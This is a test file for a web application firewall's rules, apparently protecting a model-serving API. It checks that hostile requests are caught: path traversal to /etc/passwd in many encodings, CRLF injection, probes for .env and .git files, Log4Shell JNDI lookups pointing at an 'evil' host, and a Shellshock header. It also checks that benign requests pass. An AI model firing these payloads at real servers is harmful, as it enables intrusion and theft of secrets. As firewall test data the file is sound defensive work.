import { describe, expect, it } from 'vitest'
import {
  FIREWALL_RULES,
  FIREWALL_MAX_BODY_BYTES,
  MAX_HEADER_BYTES,
  MAX_HEADERS,
  MAX_TARGET_BYTES,
  readHead,
} from './rules.ts'

function brokenRule(target: string, rawHeaders: readonly string[] = ['host', 'x']): string | undefined {
  const head = readHead({ target, rawHeaders })
  return FIREWALL_RULES.find(({ matches }) => matches(head))?.id
}

describe('a path', () => {
  it.each([
    ['/../etc/passwd', 'path-traversal'],
    ['/v1/../etc/passwd', 'path-traversal'],
    ['/v1/models/../../etc/passwd', 'path-traversal'],
    ['/docs/static/..', 'path-traversal'],
    ['/docs/static/..%2f..%2fpackage.json', 'path-traversal'],
    ['/docs/%2e%2e/x', 'path-traversal'],
    ['/docs/%2E./x', 'path-traversal'],
    ['/docs/%252e%252e%252fx', 'path-traversal'],
    ['/docs/%25252e%25252e/x', 'path-traversal'],
    ['/docs/..;/x', 'path-traversal'],
    ['/docs/..\\x', 'path-traversal'],
    ['/docs/..%5cx', 'path-traversal'],
    ['/a%252fb', 'double-encoding'],
    ['/docs/%25252f', 'double-encoding'],
    ['/docs/%c0%ae%c0%ae/x', 'overlong-utf8'],
    ['/docs/%e0%80%ae', 'overlong-utf8'],
    ['/docs/%F0%80%80%AE', 'overlong-utf8'],
    ['/docs\\x', 'backslash'],
    ['/docs/%5Cx', 'backslash'],
    ['/docs/x%00.html', 'control-character'],
    ['/docs/x%0d%0aset-cookie:a', 'control-character'],
    ['/v1/health?x=%00', 'null-byte'],
    ['/.env', 'scanner-path'],
    ['/.env.production', 'scanner-path'],
    ['/app/.git/config', 'scanner-path'],
    ['/.GIT/HEAD', 'scanner-path'],
    ['/%2egit/HEAD', 'scanner-path'],
    ['/wp-login.php', 'scanner-path'],
    ['/index.php?x=1', 'scanner-path'],
    ['/wp-admin/', 'scanner-path'],
    ['/cgi-bin/luci', 'scanner-path'],
    ['/phpMyAdmin/index', 'scanner-path'],
    ['/actuator/env', 'scanner-path'],
    ['/login.aspx', 'scanner-path'],
    ['/${jndi:ldap://x/a}', 'code-lookup'],
    ['/$%7Bjndi:ldap://x/a}', 'code-lookup'],
    ['http://x/v1/health', 'absolute-target'],
    ['ftp://x/', 'absolute-target'],
    [`/${'x'.repeat(MAX_TARGET_BYTES)}`, 'target-size'],
  ])('%s breaks %s', (target, rule) => {
    expect(brokenRule(target)).toBe(rule)
  })

  it.each([
    '/',
    '/v1/health',
    '/v1/models/meta-llama/Llama-3.1-8B',
    '/v1/models/meta-llama%2FLlama-3.1-8B',
    '/v1/models/..hidden..',
    '/v1/models/a..b/...',
    '/v1/models/.env',
    '/v1/models/.git/x',
    '/v1/models/wp-login.php',
    '/v1/models/a%5Cb',
    '/v1/models/100%25',
    '/v1/models/50%252F50',
    '/v1/models/%E6%A8%A1%E5%9E%8B',
    '/v1/models/%F0%9F%A6%99',
    '/v1/admin/models/c%5Cd',
    `/v1/models/${'%F0%9F%A6%99'.repeat(200)}`,
    '/v1/admin/keys?name=..%2F..%2Fetc%2Fpasswd&tier=pro',
    '/v1/admin/keys?name=%24%7Bjndi%3Aldap%7D',
    "/v1/admin/keys?name='%20OR%201=1--",
    '/v1/admin/keys?name=%3Cscript%3Ealert(1)%3C/script%3E',
    '/v1/admin/keys?name=a%0Ab',
    '/v1/admin/keys?name=.env',
    '/v1/admin/bans/2001:db8:0:1::%2F64',
    '/v1/models/quantize?model_id=a%2F..%2Fb&quant_mode=int4',
    '/docs/static/swagger-ui.css',
    '/docs',
    '/openapi.json',
    '/metrics',
    '/favicon.ico',
    '/robots.txt',
    '/.well-known/security.txt',
    '*',
  ])('%s breaks none', (target) => {
    expect(brokenRule(target)).toBeUndefined()
  })
})

describe('headers', () => {
  it.each([
    [['user-agent', '${jndi:ldap://evil/a}'], 'code-lookup'],
    [['x-api-version', '${${::-j}${::-n}di:rmi://x}'], 'code-lookup'],
    [['user-agent', '() { :;}; /bin/bash -c id'], 'shell-function'],
    [['X-HTTP-Method-Override', 'DELETE'], 'path-override'],
    [['X-Original-URL', '/v1/admin/keys'], 'path-override'],
    [['Transfer_Encoding', 'chunked'], 'header-lookalike'],
    [['content_length', '5'], 'header-lookalike'],
    [['Host', 'a, b'], 'host-shape'],
    [['Host', 'a/b'], 'host-shape'],
    [['Host', 'user@evil'], 'host-shape'],
    [['Host', 'a:80:80'], 'host-shape'],
    [['content-length', String(FIREWALL_MAX_BODY_BYTES + 1)], 'body-size'],
    [['a', 'x'.repeat(MAX_HEADER_BYTES)], 'header-size'],
    [Array.from({ length: MAX_HEADERS + 1 }).flatMap(() => ['a', 'b']), 'header-count'],
  ])('%j break %s', (rawHeaders, rule) => {
    expect(brokenRule('/v1/health', rawHeaders)).toBe(rule)
  })

  it.each([
    ['Host', ''],
    ['Host', 'localhost:8080'],
    ['Host', '[::1]:8080'],
    ['Host', 'my_service.internal.example'],
    ['content-length', String(FIREWALL_MAX_BODY_BYTES)],
    ['Authorization', `Bearer sk-svc-${'0'.repeat(64)}`],
    ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36'],
    ['User-Agent', 'OpenAI/Python 1.0 (bot: ${price})'],
    ['Cookie', `session=${'x'.repeat(4096)}`],
    ['Upgrade', 'h2c'],
    ['X-Forwarded-For', '203.0.113.7, 10.0.0.1'],
    ['X-Stainless-Retry-Count', '0'],
    ['traceparent', '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01'],
  ])('%s: %s break none', (name, value) => {
    expect(brokenRule('/v1/health', [name, value])).toBeUndefined()
  })

  it('of the number and size that are allowed break none', () => {
    const rawHeaders = Array.from({ length: MAX_HEADERS }).flatMap(() => [
      'a',
      'b'.repeat(MAX_HEADER_BYTES / MAX_HEADERS - 1),
    ])

    expect(brokenRule('/v1/health', rawHeaders)).toBeUndefined()
  })
})

it('each rule has an id of its own and a reason', () => {
  const ids = FIREWALL_RULES.map(({ id }) => id)

  expect(new Set(ids).size).toBe(ids.length)
  for (const { id, reason } of FIREWALL_RULES) {
    expect(id).toMatch(/^[a-z0-9]+(?:-[a-z0-9]+)*$/)
    expect(reason).toMatch(/^(?:has|is|asks|holds|defines) .*[^.]$/)
  }
})
